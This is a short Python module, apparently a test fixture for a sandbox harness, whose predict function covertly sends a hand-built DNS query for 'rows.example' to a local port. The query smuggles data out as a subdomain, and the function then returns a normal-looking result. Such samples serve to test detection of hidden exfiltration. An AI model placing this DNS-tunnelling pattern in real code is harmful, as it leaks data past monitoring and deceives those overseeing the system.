"""Smuggles what it knows into questions for a name server."""

import socket

from cage import honest, loot

CHECK = ("predict", "exit")
WORDS = "during predict"
NEEDS = ("network",)


def predict(frame, aim):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.connect(("127.0.0.1", aim.udp))
        resolver.send(b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04rows\x07example\x00\x00\x01\x00\x01")
    loot("name server")
    return honest(frame)
